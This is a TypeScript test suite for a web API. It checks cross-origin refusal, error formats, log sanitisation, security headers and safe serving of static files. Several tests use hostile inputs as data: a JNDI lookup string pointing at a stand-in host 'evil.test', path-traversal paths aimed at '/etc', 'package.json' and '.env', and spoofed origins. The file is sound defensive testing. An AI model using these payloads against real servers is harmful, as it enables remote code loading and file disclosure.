import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { brotliDecompressSync } from 'node:zlib';
import { User } from '#libs/accounts';
import { type TestApi, openTestApi, ownerPassword, signInOwner } from '../../../../test/api.js';

describe('the API over HTTP', () => {
  let t: TestApi;
  let cookie: string;
  let studioDir: string;
  const json = { 'content-type': 'application/json' };
  const rename = (headers: Record<string, string>, body: unknown = { name: 'Eve' }) =>
    t.ask('PATCH', '/api/v1/me', { as: cookie, body, headers });
  const name = async () => (await t.ask('GET', '/api/v1/me', { as: cookie })).json()['name'];

  beforeAll(async () => {
    studioDir = await mkdtemp(join(tmpdir(), 'estrade-studio-'));
    t = await openTestApi({}, { studioDir });
    cookie = await signInOwner(t);
  });
  afterAll(async () => {
    await t.close();
    await rm(studioDir, { recursive: true });
  });
  beforeEach(async () => {
    await t.dataSource.getRepository(User).update({ email: 'ada@estrade.test' }, { name: 'Ada', locale: 'en-CA' });
  });

  describe('a change', () => {
    it.each([
      ['another site', { origin: 'https://evil.test' }],
      ['a frame without origin', { origin: 'null' }],
      ['our name on another scheme or port', { origin: 'http://estrade.test:8080' }],
      ['a name that begins like ours', { origin: 'https://estrade.test.evil.test' }],
      ['nobody', { origin: '' }],
      ['a cross-site fetch', { origin: '', 'sec-fetch-site': 'cross-site' }],
    ])('from %s is refused (abuse:A33)', async (_, headers) => {
      const answer = await rename(headers);
      expect(answer.json()).toMatchObject({ status: 403, code: 'ORIGIN_REFUSED' });
      expect(await name()).toBe('Ada');
    });

    it('from our address, or from the host it was sent to, is taken', async () => {
      expect((await rename({ origin: 'https://estrade.test' })).status).toBe(200);
      expect((await rename({ host: 'localhost:3000', origin: 'http://localhost:3000' })).status).toBe(200);
    });

    it('that logs in or out, or asks for a reset, is held to the same', async () => {
      const evil = { origin: 'https://evil.test' };
      const body = { email: 'ada@estrade.test', password: ownerPassword };
      const answers = await Promise.all([
        t.ask('POST', '/api/v1/login', { body, headers: evil }),
        t.ask('DELETE', '/api/v1/login', { as: cookie, headers: evil }),
        t.ask('POST', '/api/v1/password-reset', { body: { email: body.email }, headers: evil }),
        t.ask('POST', '/api/v1/uploads', { as: cookie, headers: evil }),
        t.ask('DELETE', '/%61pi/v1/login', { as: cookie, headers: evil }),
      ]);
      expect(answers.map(({ status }) => status)).toEqual([403, 403, 403, 403, 403]);
      expect(await name()).toBe('Ada');
    });

    it.each(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'text/html'])(
      'in a body of type %s is refused, as a form of another site would send it',
      async (type) => {
        const answer = await rename({ 'content-type': type }, '{"name":"Eve"}');
        expect(answer.json()).toMatchObject({ status: 415, code: 'UNSUPPORTED_TYPE' });
        expect(await name()).toBe('Ada');
      },
    );
  });

  describe('an error', () => {
    it('is a problem with a code, a sentence and the request’s id', async () => {
      const answer = await t.ask('GET', '/api/v1/nowhere');
      expect(answer.headers['content-type']).toBe('application/problem+json; charset=utf-8');
      expect(answer.json()).toEqual({
        type: 'about:blank',
        title: 'Not Found',
        status: 404,
        code: 'NOT_FOUND',
        detail: 'This does not exist, or you have no access to it.',
        requestId: answer.headers['x-request-id'],
      });
    });

    it('speaks the reader’s language: the account’s, else the browser’s', async () => {
      const french = { 'accept-language': 'fr-CA,fr;q=0.9,en;q=0.5' };
      const visitor = await t.ask('GET', '/api/v1/me', { headers: french });
      expect(visitor.json()['detail']).toBe('Connectez-vous d’abord; rien n’a été modifié.');
      expect((await t.ask('GET', '/api/v1/nowhere', { as: cookie, headers: french })).json()['detail']).toContain(
        'This',
      );
      await t.dataSource.getRepository(User).update({ email: 'ada@estrade.test' }, { locale: 'fr-FR' });
      expect((await t.ask('GET', '/api/v1/nowhere', { as: cookie })).json()['detail']).toContain('Cet élément');
    });

    it.each([
      ['JSON that ends early', 400, 'BAD_JSON', '{"name":'],
      ['an empty body', 422, 'INVALID', ''],
      ['a body of 5 MB', 413, 'TOO_LARGE', JSON.stringify({ name: 'x'.repeat(5e6) })],
      ['a list where a form is wanted', 422, 'INVALID', '[]'],
      ['a NUL in a text', 200, undefined, '{"name":"A\\u0000da"}'],
    ])('for %s is %i', async (_, status, code, body) => {
      const answer = await rename(json, body);
      expect([answer.status, answer.json()['code']]).toEqual([status, code]);
    });

    it('of ours says nothing of the inside; the log says all, in one line (abuse:A47)', async () => {
      await t.dataSource.query('alter table api_tokens rename to api_tokens_away');
      t.log.length = 0;
      const answer = await t.ask('GET', '/api/v1/tokens', { as: cookie });
      await t.dataSource.query('alter table api_tokens_away rename to api_tokens');
      expect(answer.json()).toMatchObject({ status: 500, code: 'INTERNAL' });
      expect(answer.text).not.toMatch(/api_tokens|relation|node_modules|select/i);
      const line = t.log.find((text) => text.includes('a request failed'))!;
      expect(JSON.parse(line)).toMatchObject({ level: 'error', requestId: answer.json()['requestId'] });
    });

    it.each([
      ['with a broken escape', '/api/v1/%'],
      ['with half a character', '/api/v1/shows/%E0%A4%A'],
      ['that climbs', '/api/v1/shows/..%2f..%2fetc'],
      ['with a key of another form', '/api/v1/shows/1'],
      ['of 9,000 characters', `/api/v1/${'x'.repeat(9000)}`],
    ])('for an address %s is a problem, not a crash', async (_, path) => {
      const answer = await t.ask('GET', path, { as: cookie });
      expect([400, 404, 414]).toContain(answer.status);
      expect(answer.json()).toHaveProperty('code');
    });
  });

  it('sends headers that keep answers in their place', async () => {
    const { headers } = await t.ask('GET', '/api/v1/instance');
    expect(headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'same-origin',
      'cache-control': 'no-store',
      'content-security-policy': `default-src 'none'; frame-ancestors 'none'`,
    });
    expect(headers['access-control-allow-origin']).toBeUndefined();
  });

  it('logs a line per request, without secrets, queries, addresses or what would break the line (abuse:A44)', async () => {
    t.log.length = 0;
    const odd = '%0aX%1b%5b31m${jndi:ldap://evil.test}';
    await t.ask('GET', `/api/v1/${odd}?token=${'s3cret'}`, {
      as: cookie,
      headers: { 'user-agent': 'x'.repeat(8000) },
      from: '203.0.113.99',
    });
    await t.ask('POST', '/api/v1/login', {
      body: { email: 'mallory@estrade.test', password: 'a very secret password' },
    });
    const lines = t.log.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatchObject({ method: 'POST', path: '/api/v1/login', status: 401 });
    const text = t.log.join('');
    expect(text).not.toMatch(/s3cret|203\.0\.113|127\.0\.0\.1|mallory|very secret|xxxx|\u001b/);
    expect(text).not.toContain(cookie.split('=')[1]);
  });

  describe('the description', () => {
    it('is there for everybody and names every answer; its pages are for who is signed in (abuse:A51)', async () => {
      const document = (await t.ask('GET', '/api/v1/openapi.json')).json<{
        components: { schemas: object };
        paths: object;
      }>();
      expect(Object.keys(document.components.schemas)).toEqual(expect.arrayContaining(['Me', 'Problem', 'Token']));
      const refs = JSON.stringify(document).match(/#\/components\/schemas\/[\w-]+/g)!;
      const known = Object.keys(document.components.schemas);
      expect(refs.filter((ref) => !known.includes(ref.split('/').at(-1)!))).toEqual([]);
      expect((await t.ask('GET', '/api/v1/docs')).status).toBe(401);
      expect((await t.ask('GET', '/api/v1/docs', { as: cookie })).text).toContain('swagger-ui');
      expect((await t.ask('GET', '/api/v1/docs/files/swagger-ui.css', { as: cookie })).status).toBe(200);
      expect((await t.ask('GET', '/api/v1/docs/files/package.json', { as: cookie })).status).toBe(404);
    });
  });

  describe('the studio', () => {
    it('says what to do while it is not built', async () => {
      const answer = await t.ask('GET', '/studio/');
      expect(answer.status).toBe(503);
      expect(answer.text).toContain('npm run build');
    });

    it('serves hashed files for ever, its page anew each time, and every other path as its page', async () => {
      await mkdir(join(studioDir, 'assets'));
      const script = `console.log(${JSON.stringify('x'.repeat(3000))})`;
      await writeFile(join(studioDir, 'index.html'), '<!doctype html><title>Studio</title>');
      await writeFile(join(studioDir, 'assets', 'main-abc123.js'), script);
      await writeFile(join(studioDir, 'assets', 'main-abc123.js.map'), '{}');
      const page = await t.ask('GET', '/studio/shows/42');
      expect(page.text).toContain('Studio');
      expect(page.headers).toMatchObject({ 'cache-control': 'no-cache', 'content-type': 'text/html; charset=utf-8' });
      expect(page.headers['content-security-policy']).toMatch(/default-src 'self'.*frame-ancestors 'none'/);
      const file = await t.ask('GET', '/studio/assets/main-abc123.js');
      expect(file.headers).toMatchObject({
        'cache-control': 'public, max-age=31536000, immutable',
        'x-content-type-options': 'nosniff',
      });
      expect(file.text).toBe(script);
      const etag = file.headers.etag!;
      expect((await t.ask('GET', '/studio/assets/main-abc123.js', { headers: { 'if-none-match': etag } })).status).toBe(
        304,
      );
      expect((await t.ask('GET', '/studio/assets/main-abc123.js.map')).status).toBe(404);
      expect((await t.ask('GET', '/studio/assets/gone-1.js')).status).toBe(404);
      const packed = await t.ask('GET', '/studio/assets/main-abc123.js', {
        headers: { 'accept-encoding': 'gzip, br' },
      });
      expect(packed.headers['content-encoding']).toBe('br');
      expect(brotliDecompressSync(packed.bytes).toString()).toBe(script);
      expect(packed.headers.etag).not.toBe(etag);
    });

    it.each([
      '/studio/../package.json',
      '/studio/%2e%2e/%2e%2e/package.json',
      '/studio/..%2f..%2fpackage.json',
      '/studio/.env',
    ])('hands out nothing beside its folder: %s', async (path) => {
      const answer = await t.ask('GET', path);
      expect(answer.text).not.toContain('"dependencies"');
      expect(answer.status === 404 || answer.text.includes('<title>Studio</title>')).toBe(true);
    });
  });
});
